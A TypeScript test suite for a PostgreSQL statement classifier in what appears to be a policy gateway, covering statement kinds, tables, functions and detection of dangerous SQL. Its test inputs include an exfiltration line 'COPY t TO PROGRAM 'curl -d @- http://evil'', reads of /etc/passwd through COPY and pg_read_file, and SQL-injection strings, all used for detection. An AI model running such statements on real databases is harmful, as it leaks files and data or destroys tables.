import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { before, describe, it } from 'node:test';
import { classifySql, initSqlParser, sqlCacheSize, type ClassifiedStatement } from '../../../gateway/policy/sql/classify.ts';

before(async () => {
  await initSqlParser();
  await initSqlParser(); // idempotent
});

function one(query: string): ClassifiedStatement {
  const stmts = classifySql(query);
  assert.equal(stmts.length, 1, `expected one statement in ${JSON.stringify(query)}, got ${stmts.length}`);
  return stmts[0];
}

describe('initSqlParser', () => {
  it('classifySql throws a clear error when the parser was never initialised', () => {
    const mod = fileURLToPath(new URL('../../../gateway/policy/sql/classify.ts', import.meta.url));
    const script = `import { classifySql } from ${JSON.stringify(mod)};
      try { classifySql('SELECT 1'); console.log('no error'); } catch (e) { console.log(e.message); }`;
    const out = execFileSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script], { encoding: 'utf8' });
    assert.match(out, /await initSqlParser\(\)/);
  });
});

describe('statement splitting', () => {
  it('gives one classification per statement, with the exact text of each', () => {
    const stmts = classifySql('SELECT 1;  DELETE FROM t WHERE id = 2 ;\n\tUPDATE u SET a = 1 WHERE b = 2');
    assert.deepEqual(
      stmts.map((s) => [s.text, s.kind]),
      [
        ['SELECT 1', 'read'],
        ['DELETE FROM t WHERE id = 2', 'write'],
        ['UPDATE u SET a = 1 WHERE b = 2', 'write'],
      ],
    );
  });

  it('slices by bytes, so multi-byte characters do not shift later statements', () => {
    const stmts = classifySql("SELECT 'é€😀'; DROP TABLE t");
    assert.deepEqual(stmts.map((s) => s.text), ["SELECT 'é€😀'", 'DROP TABLE t']);
  });

  it('returns nothing for whitespace and comments only', () => {
    assert.deepEqual(classifySql(''), []);
    assert.deepEqual(classifySql('  \n '), []);
    assert.deepEqual(classifySql('-- nothing here\n/* nor here */'), []);
    assert.deepEqual(classifySql(';;'), []);
  });

  it('does not let a comment hide a statement, nor invent one', () => {
    const commented = one('/* DROP TABLE t */ SELECT 1');
    assert.equal(commented.kind, 'read');
    assert.deepEqual(commented.sql.statementTypes, ['SelectStmt']);

    const stmts = classifySql('SELECT 1; -- x \n DROP TABLE t');
    assert.equal(stmts.length, 2);
    assert.equal(stmts[1].text, 'DROP TABLE t');
    assert.deepEqual(stmts[1].sql.statementTypes, ['DropStmt']);
    assert.deepEqual(stmts[1].tables, ['public.t']);
  });

  it('treats DROP TABLE inside dollar-quoted and ordinary strings as data', () => {
    for (const q of ['SELECT $$DROP TABLE t$$', "SELECT $x$ ; DROP TABLE t; $x$", "SELECT 'a''; DROP TABLE t; --'", 'SELECT E\'\\\'; DROP TABLE t\'']) {
      const s = one(q);
      assert.equal(s.kind, 'read', q);
      assert.deepEqual(s.sql.statementTypes, ['SelectStmt'], q);
    }
  });

  it('handles odd casing and quoting', () => {
    const s = one('dElEtE fRoM "Sales"."Orders" wHeRe Id = 1');
    assert.equal(s.kind, 'write');
    assert.deepEqual(s.tables, ['sales.orders']);
    assert.equal(one('SeLeCt * FrOm CUSTOMERS').tables[0], 'public.customers');
  });
});

describe('unparseable SQL', () => {
  it('becomes exactly one statement carrying the parser message', () => {
    const stmts = classifySql('SELECT 1; SELEC 2; DROP TABLE t');
    assert.equal(stmts.length, 1);
    assert.equal(stmts[0].kind, 'utility');
    assert.match(stmts[0].sql.parseError ?? '', /syntax error at or near "SELEC"/);
  });

  it('fails closed on a DO block whose PL/pgSQL body does not compile', () => {
    const s = one('DO $$ BEGIN x := 1; END $$');
    assert.match(s.sql.parseError ?? '', /DO block/);
  });
});

describe('kinds', () => {
  const cases: Array<[string, string]> = [
    ['SELECT * FROM t', 'read'],
    ['SELECT * FROM t FOR UPDATE', 'read'],
    ['SHOW search_path', 'read'],
    ['EXPLAIN DELETE FROM t', 'read'],
    ['EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', 'write'],
    ['EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1', 'read'],
    ['INSERT INTO t VALUES (1)', 'write'],
    ['UPDATE t SET a = 1 WHERE id = 1', 'write'],
    ['DELETE FROM t WHERE id = 1', 'write'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'write'],
    ['SELECT * INTO t2 FROM t', 'write'],
    ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'write'],
    ['COPY t FROM STDIN', 'write'],
    ['COPY t TO STDOUT', 'read'],
    ['COPY (SELECT * FROM t) TO STDOUT', 'read'],
    ["COPY t TO PROGRAM 'gzip > /tmp/t.gz'", 'admin'],
    ["COPY t FROM '/etc/passwd'", 'admin'],
    ['CALL do_things(1)', 'write'],
    ['CREATE TABLE t (id int)', 'ddl'],
    ['ALTER TABLE t ADD COLUMN a int', 'ddl'],
    ['DROP TABLE t', 'ddl'],
    ['TRUNCATE t', 'ddl'],
    ["COMMENT ON TABLE t IS 'x'", 'ddl'],
    ['ALTER TABLE t RENAME TO u', 'ddl'],
    ['CREATE INDEX ON t (a)', 'ddl'],
    ['CREATE VIEW v AS SELECT 1', 'ddl'],
    ['CREATE TABLE t2 AS SELECT * FROM t', 'ddl'],
    ['DROP DATABASE prod', 'ddl'],
    ['GRANT SELECT ON t TO bob', 'admin'],
    ['REVOKE SELECT ON t FROM bob', 'admin'],
    ['CREATE ROLE eve', 'admin'],
    ["ALTER ROLE eve PASSWORD 'x'", 'admin'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'admin'],
    ['VACUUM t', 'admin'],
    ['CHECKPOINT', 'admin'],
    ["LOAD 'plugin'", 'admin'],
    ['CREATE EXTENSION dblink', 'admin'],
    ['SET ROLE postgres', 'admin'],
    ['SET SESSION AUTHORIZATION postgres', 'admin'],
    ['DO $$ BEGIN NULL; END $$', 'admin'],
    ['RESET ROLE', 'utility'],
    ['SET search_path = public', 'utility'],
    ['RESET ALL', 'utility'],
    ['DISCARD ALL', 'utility'],
    ['LISTEN chan', 'utility'],
    ['EXECUTE p(1)', 'read'],
    ['DEALLOCATE p', 'utility'],
    ['FETCH 10 FROM c', 'read'],
    ['MOVE 10 IN c', 'utility'],
    ['CLOSE c', 'utility'],
    ['PREPARE p AS SELECT 1', 'read'],
    ['PREPARE p AS DELETE FROM t WHERE id = $1', 'write'],
    ['DECLARE c CURSOR FOR SELECT * FROM t', 'read'],
    ['BEGIN', 'transaction'],
    ['COMMIT', 'transaction'],
    ['ROLLBACK', 'transaction'],
    ['SAVEPOINT s', 'transaction'],
    ["PREPARE TRANSACTION 'x'", 'transaction'],
  ];
  for (const [q, kind] of cases) {
    it(`${q} -> ${kind}`, () => assert.equal(one(q).kind, kind));
  }
});

describe('nested statements', () => {
  it('finds a DELETE hidden in a CTE, and treats the CTE name as no table', () => {
    const s = one('WITH gone AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM gone');
    assert.deepEqual(s.sql.statementTypes, ['SelectStmt', 'DeleteStmt']);
    assert.deepEqual(s.tables, ['public.audit']);
    assert.equal(s.sql.hasWhere, false);
  });

  it('scopes CTE names: a non-recursive CTE named like a table still reads the real table', () => {
    const s = one('WITH customers AS (SELECT * FROM customers) SELECT * FROM customers');
    assert.deepEqual(s.tables, ['public.customers']);
    const r = one('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r');
    assert.deepEqual(r.tables, []);
  });

  it('the target of a DML statement is a table even when a CTE has its name', () => {
    const s = one('WITH payments AS (SELECT 1) DELETE FROM payments WHERE id = 1');
    assert.deepEqual(s.tables, ['public.payments']);
  });

  it('walks EXPLAIN, PREPARE, DECLARE, COPY (query), CREATE TABLE AS and views', () => {
    assert.ok(one('EXPLAIN ANALYZE DELETE FROM t').sql.statementTypes.includes('DeleteStmt'));
    assert.equal(one('PREPARE p AS DELETE FROM t').sql.hasWhere, false);
    assert.deepEqual(one('DECLARE c CURSOR FOR SELECT * FROM secrets').tables, ['public.secrets']);
    assert.deepEqual(one('COPY (SELECT * FROM private.keys) TO STDOUT').tables, ['private.keys']);
    assert.deepEqual(one('CREATE TABLE x AS SELECT * FROM t').tables.sort(), ['public.t', 'public.x']);
    assert.deepEqual(one('CREATE VIEW v AS SELECT pg_read_file(name) FROM files').functions, ['pg_read_file']);
  });

  it('walks the SQL inside a PL/pgSQL DO block and flags dynamic SQL', () => {
    const s = one(`DO $$
      DECLARE n int;
      BEGIN
        PERFORM pg_read_file('/etc/passwd');
        DELETE FROM audit;
        n := (SELECT count(*) FROM customers);
        EXECUTE 'DROP TABLE ' || 'payments';
      END $$`);
    assert.equal(s.kind, 'admin');
    assert.ok(s.functions.includes('pg_read_file'));
    assert.deepEqual(s.tables.sort(), ['public.audit', 'public.customers']);
    assert.ok(s.sql.statementTypes.includes('DeleteStmt'));
    assert.ok(s.sql.statementTypes.includes('PLpgSQL_stmt_dynexecute'));
    assert.equal(s.sql.hasWhere, false);
  });
});

describe('SQL run later or from text', () => {
  it('walks function bodies at CREATE time (PL/pgSQL, SQL string, BEGIN ATOMIC)', () => {
    const plpgsql = one(`CREATE FUNCTION purge(days int) RETURNS void LANGUAGE plpgsql AS $$
      BEGIN DELETE FROM audit; PERFORM lo_export(1, '/tmp/x'); END $$`);
    assert.equal(plpgsql.kind, 'ddl');
    assert.deepEqual(plpgsql.tables, ['public.audit']);
    assert.ok(plpgsql.functions.includes('lo_export'));
    assert.equal(plpgsql.sql.hasWhere, false);

    const sqlString = one("CREATE FUNCTION peek(text) RETURNS text LANGUAGE sql AS 'SELECT pg_read_file($1)'");
    assert.deepEqual(sqlString.functions, ['pg_read_file']);

    const atomic = one('CREATE PROCEDURE wipe() LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END');
    assert.ok(atomic.sql.statementTypes.includes('DeleteStmt'));
    assert.equal(atomic.sql.hasWhere, false);

    const trigger = one('CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$');
    assert.equal(trigger.sql.parseError, undefined);
  });

  it('parses literal SQL handed to query_to_xml/ts_stat and refuses computed SQL', () => {
    const lit = one("SELECT query_to_xml('SELECT email FROM customers', true, true, '')");
    assert.deepEqual(lit.tables, ['public.customers']);
    assert.deepEqual(lit.sql.expressionColumns, ['email']);
    assert.equal(one("SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')").kind, 'write');
    assert.match(one("SELECT query_to_xml('SELECT * FROM ' || 'customers', true, true, '')").sql.parseError ?? '', /query_to_xml\(\) is computed at run time/);
    assert.deepEqual(one("SELECT * FROM ts_stat('SELECT body FROM docs')").tables, ['public.docs']);
  });

  it('resolves table_to_xml table names and refuses whole-database dumps', () => {
    const t = one(`SELECT table_to_xml('billing."Cards"', true, true, '')`);
    assert.deepEqual(t.tables, ['billing.cards']);
    assert.deepEqual(t.sql.expressionColumns, ['billing.cards.*']);
    assert.match(one("SELECT table_to_xml('t; DROP TABLE x', true, true, '')").sql.parseError ?? '', /literal table name/);
    assert.match(one("SELECT database_to_xml(true, true, '')").sql.parseError ?? '', /every table/);
  });
});

describe('tables and functions', () => {
  it('lists every relation, schema-qualified and lower-case', () => {
    const s = one('SELECT * FROM a JOIN billing.Invoices i ON true WHERE EXISTS (SELECT 1 FROM c WHERE c.x = i.x) AND i.id IN (SELECT id FROM db.s.d)');
    assert.deepEqual(s.tables.sort(), ['billing.invoices', 'public.a', 'public.c', 's.d']);
  });

  it('names dropped and truncated relations', () => {
    assert.deepEqual(one('DROP TABLE a, s.b').tables, ['public.a', 's.b']);
    assert.deepEqual(one('TRUNCATE a, s.b').tables, ['public.a', 's.b']);
  });

  it('finds functions in subqueries, FROM, qualified or not', () => {
    assert.deepEqual(one("SELECT * FROM (SELECT pg_read_file('/etc/passwd')) s").functions, ['pg_read_file']);
    assert.deepEqual(one("SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')").functions, ['pg_catalog.pg_read_file']);
    assert.deepEqual(one("SELECT 1 WHERE length(PG_LS_DIR('.')) > 0").functions.sort(), ['length', 'pg_ls_dir']);
    assert.deepEqual(one("CALL Ops.Rotate(1)").functions, ['ops.rotate']);
  });
});

describe('facts', () => {
  it('hasWhere is false when any DELETE/UPDATE anywhere lacks a real WHERE', () => {
    assert.equal(one('DELETE FROM t WHERE id = 1').sql.hasWhere, true);
    assert.equal(one('DELETE FROM t').sql.hasWhere, false);
    assert.equal(one('UPDATE t SET a = 1').sql.hasWhere, false);
    assert.equal(one('WITH u AS (UPDATE t SET a = 1 RETURNING id) DELETE FROM v WHERE id IN (SELECT id FROM u)').sql.hasWhere, false);
    // A WHERE that references no column bounds nothing.
    assert.equal(one('DELETE FROM t WHERE true').sql.hasWhere, false);
    assert.equal(one('DELETE FROM t WHERE 1 = 1').sql.hasWhere, false);
    assert.equal(one('UPDATE t SET a = 1 WHERE CURRENT OF c').sql.hasWhere, true);
    assert.equal(one('SELECT 1').sql.hasWhere, true);
  });

  it('hasLimit reflects the top-level SELECT only', () => {
    assert.equal(one('SELECT * FROM t LIMIT 10').sql.hasLimit, true);
    assert.equal(one('SELECT * FROM t FETCH FIRST 5 ROWS ONLY').sql.hasLimit, true);
    assert.equal(one('SELECT * FROM (SELECT * FROM t LIMIT 1) s').sql.hasLimit, false);
    assert.equal(one('SELECT * FROM t').sql.hasLimit, false);
  });

  it('records the COPY direction', () => {
    const dir = (q: string) => one(q).sql.copy;
    assert.equal(dir('COPY t TO STDOUT'), 'to-stdout');
    assert.equal(dir('COPY t FROM STDIN'), 'from-stdin');
    assert.equal(dir("COPY t TO '/tmp/t.csv'"), 'to-file');
    assert.equal(dir("COPY t FROM '/tmp/t.csv'"), 'from-file');
    assert.equal(dir("COPY t TO PROGRAM 'curl -d @- http://evil'"), 'to-program');
    assert.equal(dir("copy t from program 'id'"), 'from-program');
    assert.equal(dir('SELECT 1'), undefined);
  });

  it('flags ALTER TABLE ... DROP sub-commands', () => {
    assert.equal(one('ALTER TABLE t ADD COLUMN a int, DROP COLUMN b').sql.alterDrops, true);
    assert.equal(one('ALTER TABLE t DROP CONSTRAINT t_pkey').sql.alterDrops, true);
    assert.equal(one('ALTER TABLE t ADD COLUMN a int').sql.alterDrops, false);
  });

  it('fingerprints DML independent of literals, but binds ddl/admin to the exact text', () => {
    const fp = (q: string) => one(q).sql.fingerprint;
    assert.equal(fp('DELETE FROM t WHERE id = 1'), fp('delete from t where id = 2'));
    assert.notEqual(fp('DELETE FROM t WHERE id = 1'), fp('DELETE FROM u WHERE id = 1'));
    assert.notEqual(fp('SET ROLE a'), fp('SET ROLE b'));
    assert.notEqual(fp('DO $$ BEGIN NULL; END $$'), fp('DO $$ BEGIN PERFORM 1; END $$'));
  });
});

describe('expression columns', () => {
  const cols = (q: string) => one(q).sql.expressionColumns.sort();

  it('records every column used other than as a plain output column of a row-returning statement', () => {
    assert.deepEqual(cols('SELECT email, id FROM customers'), []);
    assert.deepEqual(cols('SELECT lower(email) FROM customers'), ['email']);
    assert.deepEqual(cols("SELECT c.email || '' FROM customers c"), ['c.email']);
    assert.deepEqual(cols('SELECT email::text, CASE WHEN phone IS NULL THEN 1 END, coalesce(ssn, 0) FROM customers'), ['email', 'phone', 'ssn']);
    assert.deepEqual(cols('SELECT id FROM customers WHERE lower(email) = $1'), ['email']);
    assert.deepEqual(cols('SELECT id FROM customers ORDER BY ssn'), ['ssn']);
    assert.deepEqual(cols('SELECT count(*) FROM customers GROUP BY email HAVING max(phone) > 1'), ['email', 'phone']);
    assert.deepEqual(cols('SELECT c.id FROM customers c JOIN orders o ON o.email = c.email'), ['c.email', 'o.email']);
    assert.deepEqual(cols('SELECT id FROM customers JOIN orders USING (email)'), ['email']);
    assert.deepEqual(cols('SELECT DISTINCT ON (email) id FROM customers'), ['email']);
    assert.deepEqual(cols('SELECT id FROM generate_series(1, 3) g(id)'), []);
  });

  it('records every column a copy, view, write or function body reads', () => {
    assert.deepEqual(cols('CREATE TABLE x AS SELECT email FROM customers'), ['email']);
    assert.deepEqual(cols('SELECT * INTO x FROM customers'), ['*']);
    assert.deepEqual(cols('CREATE VIEW v AS SELECT c.* FROM customers c'), ['c.*']);
    assert.deepEqual(cols('CREATE MATERIALIZED VIEW v AS SELECT email FROM customers'), ['email']);
    assert.deepEqual(cols('INSERT INTO x SELECT ssn FROM customers'), ['ssn']);
    assert.deepEqual(cols('UPDATE orders SET note = c.email FROM customers c WHERE c.id = orders.cid'), ['c.email', 'c.id', 'orders.cid']);
    assert.deepEqual(cols('CREATE TABLE x AS EXECUTE p'), ['?']);
    assert.deepEqual(cols("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT email FROM customers'"), ['email']);
    assert.deepEqual(cols('DECLARE c CURSOR FOR SELECT email FROM customers'), []);
  });

  it('maps renamed alias columns back to what they may stand for', () => {
    assert.deepEqual(cols('SELECT lower(m) FROM customers AS c(i, n, m)'), ['c.*', 'm']);
    assert.deepEqual(cols('SELECT lower(m) FROM (SELECT email FROM customers) s(m)'), ['*', 'm']);
    assert.deepEqual(cols('WITH s(m) AS (SELECT email FROM customers) SELECT md5(m) FROM s'), ['*', 'm']);
  });

  it('follows aliases out of subqueries and flags whole-row references', () => {
    assert.deepEqual(cols('SELECT upper(e) FROM (SELECT email AS e FROM customers) s'), ['e', 'email']);
    assert.deepEqual(cols('SELECT row_to_json(c) FROM customers c'), ['c', 'c.*']);
    assert.deepEqual(cols('SELECT customers::text FROM customers'), ['customers', 'customers.*']);
    assert.deepEqual(cols('SELECT c FROM customers c'), ['c.*']);
    assert.deepEqual(cols('SELECT c.* FROM customers c'), []);
  });

  it('treats set-operation outputs, scalar subqueries and RETURNING as expressions', () => {
    assert.deepEqual(cols("SELECT email FROM customers UNION SELECT 'x'"), ['email']);
    assert.deepEqual(cols('SELECT (SELECT email FROM customers LIMIT 1)'), ['email']);
    assert.deepEqual(cols('DELETE FROM customers WHERE id = 1 RETURNING lower(email)'), ['email', 'id']);
  });
});

describe('cache', () => {
  it('returns equal classifications for a repeated query, which callers cannot corrupt', () => {
    const q = 'SELECT lower(email) FROM customers';
    const first = classifySql(q);
    first[0].tables.push('public.tampered');
    first[0].sql.expressionColumns.length = 0;
    const second = classifySql(q);
    assert.deepEqual(second[0].tables, ['public.customers']);
    assert.deepEqual(second[0].sql.expressionColumns, ['email']);
  });

  it('stays bounded in total size when fed many large distinct queries', () => {
    const filler = 'x'.repeat(60_000);
    for (let i = 0; i < 80; i++) assert.equal(classifySql(`SELECT ${i} -- ${filler}`)[0].text.length > 60_000, true);
    // 4,000,000 cached characters at most: no more than 66 queries of 60,000+ characters.
    assert.ok(sqlCacheSize() <= 66, `cache holds ${sqlCacheSize()} entries`);
  });
});
